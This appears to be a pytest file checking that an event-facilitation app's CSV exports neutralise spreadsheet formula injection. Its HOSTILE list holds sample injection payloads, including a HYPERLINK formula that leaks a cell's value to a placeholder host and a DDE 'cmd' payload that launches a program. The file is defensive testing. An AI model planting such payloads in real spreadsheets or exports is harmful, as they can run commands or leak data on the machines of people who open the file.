"""CSV formula injection (OWASP "CSV Injection"): no export lets a cell become a formula.

Every CSV the app writes goes through :mod:`facilitator.csvsafe`; each export is fed hostile
text (a phone question, a name, a project, an option) and read back with ``csv.reader``:
no cell may begin with a formula trigger, and the text after the added quote is the text
that was typed.
"""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction
from pathlib import Path

import pytest

from facilitator import csvsafe
from facilitator.ballots import Answer, create_round, enter, issue_codes
from facilitator.ballots.questions import Question
from facilitator.cli import main
from facilitator.people import import_people, list_participants, parse_people
from facilitator.qa import ops as qa
from facilitator.qa.export import qa_csv
from facilitator.results import count_round
from facilitator.results.exports import ballots_csv, question_pb
from facilitator.store import EventStore
from facilitator.tally.pb import PbElection, PbVote, Project, format_pb, parse_pb
from facilitator.timing.stats import GroupStats, PersonStats, SpeakingStats, stats_csv

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"details")',
    "=1+2",
    "@SUM(A1:A9)",
    "+Anne",
    "-1+2",
    "-",
    "\t=1+2",
    "\r=1+2",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+2",  # full-width equals
    "'=already quoted",
    'He said "=1+1", then; left',
]
TRIGGER = set("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")


def assert_safe(text: str, typed: list[str], **fmt: str) -> list[list[str]]:
    """No cell of ``text`` starts a formula; each typed string is there, visibly intact."""
    rows = list(csv.reader(io.StringIO(text, newline=""), **fmt))  # type: ignore[arg-type]
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell or cell[0] not in TRIGGER, f"live formula cell: {cell!r}"
        assert not cell.lstrip(" ") or cell.lstrip(" ")[0] not in TRIGGER, cell
    shown = {c[1:] if c.startswith("'") else c for c in cells}
    for typed_text in typed:
        assert typed_text in shown or typed_text in cells, f"lost {typed_text!r}"
    return rows


# -- the function ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE[:-2])
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert csvsafe.is_dangerous(text)
    assert csvsafe.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Anne", "", "'=1", 'a "=1"', "3", "44 20", "x=1", "a-b"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert csvsafe.neutralise(text) == text


@pytest.mark.parametrize("number", [-3, -1.5, Fraction(-7, 2), 0, 12])
def test_numbers_written_as_numbers_stay_numbers(number: object) -> None:
    """A negative score we write as a number must stay a number a spreadsheet can add up;
    its text (digits, sign, point) cannot be a formula."""
    out = io.StringIO()
    csvsafe.writer(out).writerow([number, str(number)])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == str(number)
    assert cells[1] == (("'" + str(number)) if str(number).startswith("-") else str(number))


def test_no_module_writes_csv_around_the_safe_writer() -> None:
    """Architecture: the csv module's writers appear only in facilitator/csvsafe.py, and the
    unneutralised data_writer only for the Pabulib .pb file (read by programs)."""
    raw = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import[^\n]*"
                     r"\b(writer|DictWriter)\b|\b_csv\b")
    offenders, data_users = [], []
    for folder in ("facilitator", "ui"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            source = path.read_text(encoding="utf-8")
            if rel != "facilitator/csvsafe.py" and raw.search(source):
                offenders.append(rel)
            if rel != "facilitator/csvsafe.py" and "data_writer(" in source:
                data_users.append(rel)
    assert offenders == [], f"write CSV through facilitator.csvsafe.writer: {offenders}"
    assert data_users == ["facilitator/tally/pb.py"]


# -- each export -----------------------------------------------------------------------------


def people_file(tmp_path: Path, names: list[str]) -> Path:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["ID", "Name", "Role", "Phone"])
    w.writerow(["E1", "Expert One", "expert", ""])
    for n, name in enumerate(names, start=1):
        w.writerow([str(n), name, "participant", "+44 20 7946 0000"])
    path = tmp_path / "people.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def test_qa_export_neutralises_phone_questions_moderated_or_not(store: EventStore,
                                                                tmp_path: Path) -> None:
    import_people(store, parse_people(people_file(tmp_path, ["+Anne", "Bo"])), actor="test")
    people = {p.ext_id: p.id for p in list_participants(store)}
    panel = qa.create_panel(store, "=Panel", [people["E1"]], actor="t").panel_id
    typed = [t.strip() for t in HOSTILE]
    for n, text in enumerate(typed):
        qa.add_question(store, panel, "3", text, asker_id=people["1"], source="phone",
                        approved=n % 2 == 0, actor="t")  # half of them never moderated
    rows = assert_safe(qa_csv(store), [*typed, "=Panel", "+Anne"])
    assert len(rows) == 1 + len(typed)
    assert {r[2] for r in rows[1:]} == {"approved", "pending"}
    assert rows[1][1] == "1"  # ids stay plain numbers


@pytest.mark.parametrize("flag", [["--csv"], []])
def test_people_listing_neutralises_names_and_attributes(store: EventStore, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str],
                                                         flag: list[str]) -> None:
    names = [h for h in HOSTILE if h.strip() and not h.startswith(("\t", "\r"))]
    import_people(store, parse_people(people_file(tmp_path, names)), actor="test")
    store.close()
    assert main(["people", str(store.path), *flag]) == 0
    out = capsys.readouterr().out
    rows = assert_safe(out, [" ".join(n.split()) for n in names] + ["+44 20 7946 0000"],
                       delimiter="," if flag else "\t")
    assert "'+44 20 7946 0000" in rows[-1]


def test_ballot_export_neutralises_options(store: EventStore) -> None:
    question = Question.choose_one("=Which one?", ["=HYPERLINK(\"http://x\")", "+Anne",
                                                   "-1+2", "@SUM(A1)"])
    rid = create_round(store, "@Round", [question], actor="test").round.id
    for n, paper in enumerate(issue_codes(store, rid, 4, actor="test").papers):
        enter(store, rid, paper.code, [Answer.choose(question, n)], actor="t")
    rows = assert_safe(ballots_csv(count_round(store, rid)), [])
    assert rows[0][3] == 'q1: =HYPERLINK("http://x")'


def test_speaking_times_export_neutralises_names_and_groups(store: EventStore,
                                                            tmp_path: Path) -> None:
    import_people(store, parse_people(people_file(tmp_path, ["=1+2", "@Bo", "-Cy"])), actor="test")
    everyone = [p for p in list_participants(store) if p.role == "participant"]
    stats = SpeakingStats(
        scope="event", attribute="Phone",
        people=[PersonStats(p, 1, 12.5) for p in everyone[:2]],
        groups=[GroupStats("+44 20 7946 0000", 3, 1.0, 2, 1.0, 25.0, 1.0),
                GroupStats("=SUM(A1)", 0, 0.0, 0, 0.0, 0.0, 0.0)],
        not_yet_spoken=everyone[2:], total_turns=2, total_seconds=25.0)
    assert_safe(stats_csv(stats), ["=1+2", "@Bo", "-Cy", "+44 20 7946 0000", "=SUM(A1)"])


def test_pabulib_file_is_data_not_a_spreadsheet_and_reads_back_exactly() -> None:
    """The .pb file is read by counting programs (ours, pabutools): a quote would change a
    project's id or name, so it is written as it is and must read back equal."""
    election = PbElection(
        {"budget": "100", "description": "=HYPERLINK(\"http://x\")", "vote_type": "approval"},
        (Project("-1", Fraction(40), "=1+2"), Project("+2", Fraction(60), "@SUM(A1)")),
        (PbVote("1", ("-1", "+2")), PbVote("=3", ("+2",))))
    assert parse_pb(format_pb(election)) == election


def test_the_app_pb_export_reads_back(store: EventStore) -> None:
    question = Question.pb_budget("Spend it", [Project("p1", Fraction(40), "=1+2"),
                                               Project("p2", Fraction(60), "+Benches")], 100)
    rid = create_round(store, "Budget", [question], actor="test").round.id
    for paper in issue_codes(store, rid, 3, actor="test").papers:
        enter(store, rid, paper.code, [Answer.choose(question, 0)], actor="t")
    text = question_pb(count_round(store, rid), 0)
    names = [p.name for p in parse_pb(text).projects]
    assert names == ["=1+2", "+Benches"]
